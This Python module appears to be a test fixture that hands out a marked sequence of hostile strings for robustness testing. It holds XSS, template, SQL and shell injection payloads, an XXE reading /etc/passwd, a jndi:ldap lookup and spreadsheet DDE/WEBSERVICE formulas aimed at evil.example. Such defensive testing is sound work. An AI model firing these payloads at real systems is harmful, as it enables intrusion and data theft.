"""Strings that try to run something, or to break what shows them; each is told by its marker."""

import re
import unicodedata

# Stands for the marker, which is another one in every string.
_MARK = "MARK"

SCRIPTS = (
    '<script>alert("MARK")</script>',
    '</script><script>window.ran = "MARK"</script>',
    "<ScRiPt src=//evil.example/MARK.js></sCrIpT>",
    '<scr<script>ipt>alert("MARK")</scr</script>ipt>',
    '<img src=x onerror=alert("MARK")>',
    '<svg/onload=alert("MARK")>',
    '<svg><script href="data:,alert(1)"/>MARK</svg>',
    '<iframe srcdoc="<script>parent.ran=1</script>">MARK',
    '<details open ontoggle=alert("MARK")>',
    '<input autofocus onfocus=alert("MARK")>',
    '<video><source onerror=alert("MARK")></video>',
    '<object data="javascript:alert(1)">MARK</object>',
    '<a href="javascript:alert(1)">MARK</a>',
    '<a href="java&#x09;script:alert(1)">MARK</a>',
    '<form action="https://evil.example/"><button autofocus>MARK',
    '<base href="https://evil.example/MARK/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/MARK">',
    '<link rel="stylesheet" href="https://evil.example/MARK.css">',
    "<style>@import url(https://evil.example/MARK.css)</style>",
    '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x MARK">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    "</title></textarea></style></template><script>alert('MARK')</script>",
    "</desc></svg><script>alert('MARK')</script>",
    "</p></li></td></table></main></body></html>MARK",
    "<!-- MARK",
    "--> MARK <!--",
    "<![CDATA[ MARK",
    "]]><script>alert('MARK')</script>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; MARK',
    '<?xml-stylesheet href="https://evil.example/MARK.xsl"?>',
    "&lt;script&gt;alert('MARK')&lt;/script&gt;",
    "&#60;script&#62;MARK &#x202e; &amp;amp; &copy",
    "%3Cscript%3Ealert(%22MARK%22)%3C/script%3E%00%0d%0aX: y",
    r"\x3cscript\x3e\u003cscript\u003e\074script\076 MARK",
    '" onmouseover="alert(1)" MARK="',
    "' autofocus onfocus='alert(1)' MARK='",
    '" style="background: url(https://evil.example/MARK)',
    "`MARK` onload=`alert(1)`",
)
TEMPLATES = (
    "{{7*7}} MARK",
    "{{ ''.__class__.__mro__ }} MARK",
    "{% raw %}MARK{% include '/etc/passwd' %}",
    "{# MARK #}",
    "${7*7} #{7*7} <%= 7*7 %> MARK",
    "{MARK} {0} {name!r:>9} {} }{",
    "%(MARK)s %s %n %d %%",
    "$(id) `id` ; DROP TABLE x; -- MARK",
    "../../../../etc/passwd MARK",
    "${jndi:ldap://evil.example/MARK}",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example/MARK","MARK")',
    "=cmd|' /C calc'!A0 MARK",
    '=DDE("cmd";"/C calc";"MARK")',
    '=WEBSERVICE("https://evil.example/MARK")',
    '=IMPORTXML(CONCAT("https://evil.example/MARK"),"//a")',
    "=1+1 MARK",
    "=MARK",
    "+1+cmd|' /C calc'!A0 MARK",
    "-2+3+cmd|' /C calc'!A0 MARK",
    "@SUM(1+1)*cmd|' /C calc'!A0 MARK",
    "\t=1+1 MARK",
    "\r=1+1 MARK",
    "\n=1+1 MARK",
    "\x00=1+1 MARK",
    "\ufeff=1+1 MARK",
    "\uff1d1+1 MARK",
    "{=1+1} MARK",
    "'=1+1 MARK",
    '"=1+1" MARK',
    '";=1+1;"MARK',
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" MARK',
    '{ HYPERLINK "https://evil.example/MARK" }',
    "_x000D__x000A_ MARK _x0000_",
    "_x003C_MARK_x003E_",
    "_x005F_x000D_ MARK",
    "x005F_ MARK _x005f_x000d_",
    '&C&"Arial"&72 MARK &P &D &K00FF00',
    "&L&R& MARK &",
)
MARKDOWN = (
    "[MARK](javascript:alert(1))",
    "![MARK](https://evil.example/MARK.png)",
    "[MARK][1]\n\n[1]: https://evil.example/MARK",
    "[^1]: MARK",
    "<https://evil.example/MARK>",
    "https://evil.example/MARK",
    "www.evil.example/MARK",
    "mailto:MARK@evil.example",
    "# MARK",
    "- [x] MARK",
    "+ MARK",
    "1. MARK",
    "2) MARK",
    "> MARK",
    "```MARK",
    "~~~MARK",
    "    MARK",
    "| MARK | b |\n|---|---|",
    "MARK|MARK\\|",
    "MARK\n===",
    "MARK\n---",
    "MARK  \nMARK",
    "*MARK* __MARK__ ~~MARK~~ ***",
    "$MARK$ :MARK: &MARK;",
    "\\[MARK\\](https\\://evil.example)",
    "MARK\\",
    "\\\\MARK\\n\\N\\;\\,",
    "!MARK",
)
ADDRESSES = (
    "javascript:alert('MARK')",
    "data:text/html,<script>alert('MARK')</script>",
    "vbscript:msgbox(MARK)",
    "file:///etc/passwd?MARK",
    "\\\\evil.example\\MARK\\x",
)
LINES = (
    "MARK\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT",
    "MARK\nATTACH:https://evil.example/MARK",
    "MARK;X=Y:Z,A\\,B",
    "MARK\u2028alert(1)",
    "MARK\u2029alert(1)",
    "MARK\x85alert(1)",
    "MARK\r\n\r\nX: y",
)
LETTERS = (
    "MARK \u202egnp.exe",
    "MARK \u202d\u202b\u202a left open",
    "MARK \u2066\u2067\u2068 left open",
    "\u2069\u2069\u202c\u202c MARK \u202eclosed too often",
    "\u200e\u200f\u061c MARK",
    "\u0645\u0631\u062d\u0628\u0627 MARK \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\u05e9\u05dc\u05d5\u05dd (MARK) <b>\u05e2\u05d5\u05dc\u05dd</b>",
    "\U0001f9d1\u200d\U0001f692 MARK \U0001f3f3\ufe0f\u200d\U0001f308\U0001f44d\U0001f3fd",
    "\U0001f1e9\U0001f1f0 MARK \U0001f468\u200d\U0001f469\u200d\U0001f466 1\ufe0f\u20e3",
    "MARK H\u0338\u0321\u032a\u035bE\u0489\u0315\u0300\u0345 \u0301\u0301",
    "MARK " + "o" + "\u0301\u0327" * 40,
    "\u0301\u20e3 MARK",
    "MARK \u1112\u1161\u11ab \u0939\u093f\u0928\u094d\u0926\u0940 \u4e2d\u6587 \u0e44\u0e17\u0e22",
    "MARK \u00ad\u200b\u2060\ufeff\u180e\u034f",
    "MARK \ufff9a\ufffab\ufffb\ufffc\ufffd",
    "MARK \ufffe\uffff\U0001fffe\ufdd0",
    "MARK \ue000\U0010ffff\U000e0041\U000e007f",
    "\u201cMARK\u201d \u00abMARK\u00bb \u2018MARK\u2019",
    "\"MARK\" 'MARK' ''MARK'' \"\"MARK\"\"",
    "MARK " + "x" * 80,
)
# Every control of ASCII and of Latin-1; NUL is one of them.
CONTROLS = tuple(f"MARK{chr(code)}behind" for code in (*range(0x20), *range(0x7F, 0xA0)))
# Only what may have 10,000 characters takes these.
LONG = tuple(
    f"MARK {(each * 10_000)[:9_980]}"
    for each in ("x", "<", "|", "\u0639", "a\u0301", "\U0001f9d1\u200d\U0001f692", "a\x00 ", "[](")
)

SHORT = SCRIPTS + TEMPLATES + FORMULAS + MARKDOWN + ADDRESSES + LINES + LETTERS + CONTROLS
_NO_ADDRESS = re.compile("[\x00-\x20\x7f]")


class Strings:
    """Gives one hostile string after another, always the same ones, and no two alike.

    Attributes:
        given: all that was given, in order.
    """

    def __init__(self) -> None:
        """Begin with the first one."""
        self.given: list[str] = []

    def __call__(self, most: int) -> str:
        """Give the next string; where there is room, it goes on with another one.

        Args:
            most: how many characters it may have.
        """
        number = len(self.given)
        marker = f"mark{number:04}x"
        turn, place = divmod(number, len(SHORT))
        text = _marked(SHORT[place], marker)
        if turn:
            behind = _marked(SHORT[(place + turn * 7) % len(SHORT)], marker)
            text = f"{text} {behind}" if len(text) + len(behind) < most else text
        # One that is too long says its marker, and what else there is room for.
        self.given.append(text if len(text) <= most else f"{marker} {text}"[:most])
        return self.given[-1]

    def long(self) -> str:
        """Give the next string with 10,000 characters."""
        number = len(self.given)
        self.given.append(_marked(LONG[number % len(LONG)], f"mark{number:04}x"))
        return self.given[-1]

    def address(self) -> str:
        """Give the next string as the end of an address."""
        text = _NO_ADDRESS.sub("", self(200))
        self.given[-1] = f"https://evil.example/{text}"
        return self.given[-1]


def _marked(text: str, marker: str) -> str:
    return text.replace(_MARK, marker)


def seen(text: str) -> str:
    """Give what one sees of a text: no blanks, no controls, nothing that has no form."""
    return "".join(sign for sign in text if unicodedata.category(sign)[0] not in "CZ")


def marker(text: str) -> str:
    """Give the marker of a string."""
    found = re.search(r"mark\d{4}x", text)
    assert found is not None
    return found[0]
